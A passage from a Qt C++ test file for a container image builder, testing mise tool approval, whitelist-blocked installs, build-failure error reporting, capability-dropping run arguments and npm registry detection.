        makeProject(QStringLiteral("mise-bad"), minimalConfig(QStringLiteral("mise-bad")));
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), "[tools]\nnode = \"22\"\n"));
    approveMise(p);
    m_fake->reply({QStringLiteral("build")}, 0, "Successfully built 9f8e\n");
    m_fake->reply({QStringLiteral("run")}, 1,
                  "ocs-mise: blocked by the whitelist: nodejs.org\n"
                  "ocs-mise: mise install failed (status 1)\n");
    const ContainerEngine engine(ContainerEngine::Kind::Docker, QStringLiteral("/usr/bin/docker"));
    ImageBuilder builder(engine, p);
    std::optional<ImageBuilder::Result> result;
    builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
    QTRY_VERIFY(result.has_value());
    QVERIFY(!result->ok);
    QVERIFY2(result->error.message.contains(QStringLiteral("blocked by the whitelist: nodejs.org")),
             qPrintable(result->error.message));
    QCOMPARE(result->error.kind, Error::Kind::ImageBuildFailed);
    QCOMPARE(result->error.logPath, p.stateDir() + QStringLiteral("/docker-build.log"));
    QCOMPARE(m_fake->count({QStringLiteral("commit")}), 0);
    QCOMPARE(m_fake->count({QStringLiteral("rmi"), p.imageName()}), 1);
    QVERIFY(m_fake->indexOf({QStringLiteral("rm"), QStringLiteral("--force"),
                             ImageBuilder::miseContainerName(p)},
                            m_fake->indexOf({QStringLiteral("run")})) > 0);
}

void TestImageBuilder::miseRunArguments_carryNoVariables()
{
    const Project p =
        makeProject(QStringLiteral("mise-args"), minimalConfig(QStringLiteral("mise-args")));
    const ContainerEngine engine(ContainerEngine::Kind::Docker, QStringLiteral("/usr/bin/docker"));
    const QStringList a =
        ImageBuilder::miseRunArguments(p, engine, QStringLiteral("/s/mise-run"), {});
    // `commit` keeps a container's variables in the image: the run must have none.
    for (const QString &arg : a)
        QVERIFY2(!arg.startsWith(QLatin1String("--env")) && arg != QLatin1String("-e"),
                 qPrintable(arg));
    QCOMPARE(a.mid(a.indexOf(QStringLiteral("--cap-drop")), 2),
             (QStringList{QStringLiteral("--cap-drop"), QStringLiteral("ALL")}));
    QCOMPARE(a.count(QStringLiteral("--cap-add")), 4);
    QVERIFY(a.contains(QStringLiteral("/s/mise-run:/run/ocs-mise:ro")));
    QVERIFY(!a.contains(QStringLiteral("--privileged")));
    QCOMPARE(a.last(), p.imageName());
}

void TestImageBuilder::build_unapprovedMiseTomlBuildsNothing()
{
    m_testEnv.set("OCS_NPM_REGISTRY", QStringLiteral("https://npm.example/"));
    m_fake->reply({QStringLiteral("build")}, 0, "Successfully built 9f8e\n");
    const Project p =
        makeProject(QStringLiteral("build-mise"), minimalConfig(QStringLiteral("build-mise")));
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), "[tools]\nnode = \"22\"\n"));
    const ContainerEngine engine(ContainerEngine::Kind::Docker, QStringLiteral("/usr/bin/docker"));
    {
        ImageBuilder builder(engine, p);
        std::optional<ImageBuilder::Result> result;
        builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
        QTRY_VERIFY(result.has_value());
        QVERIFY(!result->ok);
        QVERIFY2(result->error.message.contains(QStringLiteral("ocs mise approve")),
                 qPrintable(result->error.message));
        QCOMPARE(m_fake->count({QStringLiteral("build")}), 0);
    }
    // Approved: it builds (with exactly that mise.toml in the context).
    approveMise(p);
    ImageBuilder builder(engine, p);
    std::optional<ImageBuilder::Result> result;
    builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
    QTRY_VERIFY(result.has_value());
    QVERIFY2(result->ok, qPrintable(result->error.message));
    QCOMPARE(m_fake->count({QStringLiteral("build")}), 1);
    QCOMPARE(readFile(p.stateDir() + QStringLiteral("/build/mise.toml")),
             QByteArray("[tools]\nnode = \"22\"\n"));
}

void TestImageBuilder::build_failure()
{
    m_testEnv.set("OCS_NPM_REGISTRY", QStringLiteral("https://npm.example/"));
    m_fake->reply({QStringLiteral("build")}, 1, "Step 1/3 : FROM debian\n",
                  "E: Unable to locate package does-not-exist\nERROR: the build broke here\n");
    const Project p =
        makeProject(QStringLiteral("build-bad"), minimalConfig(QStringLiteral("build-bad")));
    ImageBuilder builder(ContainerEngine(ContainerEngine::Kind::Docker, QStringLiteral("docker")),
                         p);
    std::optional<ImageBuilder::Result> result;
    builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
    QTRY_VERIFY(result.has_value());
    QVERIFY(!result->ok);
    for (const QString &w : {QStringLiteral("The image build failed (exit code 1)"),
                             QStringLiteral("ERROR: the build broke here"),
                             QStringLiteral("Unable to locate package does-not-exist")})
        QVERIFY2(result->error.message.contains(w), qPrintable(result->error.message));
    // The log's path is a field of the error, not something to dig out of the message.
    QCOMPARE(result->error.kind, Error::Kind::ImageBuildFailed);
    QCOMPARE(result->error.logPath, p.stateDir() + QStringLiteral("/docker-build.log"));
    QCOMPARE(result->logPath, result->error.logPath);
    QVERIFY(!result->error.message.contains(result->logPath));
    QVERIFY(readFile(result->logPath).contains("ERROR: the build broke here"));
}

void TestImageBuilder::build_registryFromNpm_data()
{
    QTest::addColumn<QByteArray>("npmAnswer");
    QTest::addColumn<QString>("expectedRegistry");
    QTest::newRow("mirror") << QByteArray("https://npm.mirror.example/\n")
                            << QStringLiteral("https://npm.mirror.example/");
    QTest::newRow("nonsense") << QByteArray("undefined\n") << QString();
}

void TestImageBuilder::build_registryFromNpm()
{
    QFETCH(QByteArray, npmAnswer);
    QFETCH(QString, expectedRegistry);
    const QString bin = m_base + QStringLiteral("/npm-bin");
    QVERIFY(writeFile(bin + QStringLiteral("/npm"), "#!/bin/sh\nexit 99\n",
                      QFile::ReadOwner | QFile::ExeOwner));
    m_testEnv.set("PATH", bin);
    m_fake->reply({QStringLiteral("config"), QStringLiteral("get"), QStringLiteral("registry")}, 0,
                  npmAnswer);
    const Project p = makeProject(QStringLiteral("npm"), minimalConfig(QStringLiteral("npm")));
    ImageBuilder builder(ContainerEngine(ContainerEngine::Kind::Docker, QStringLiteral("docker")),
                         p);
    std::optional<ImageBuilder::Result> result;
    builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
    QTRY_VERIFY(result.has_value());
    QVERIFY2(result->ok, qPrintable(result->error.message));
    QCOMPARE(m_fake->calls().size(), 2);
    QCOMPARE(m_fake->calls().at(0).program, bin + QStringLiteral("/npm"));
    const QStringList buildArgs =
        valuesOf(m_fake->calls().at(1).arguments, QStringLiteral("--build-arg"));
    QStringList registries;
    for (const QString &b : buildArgs) {
        if (b.startsWith(QStringLiteral("NPM_REGISTRY=")))
            registries << b.mid(13);
    }
    QCOMPARE(registries,
             expectedRegistry.isEmpty() ? QStringList() : QStringList{expectedRegistry});
}

QTEST_GUILESS_MAIN(TestImageBuilder)
#include "tst_imagebuilder.moc"
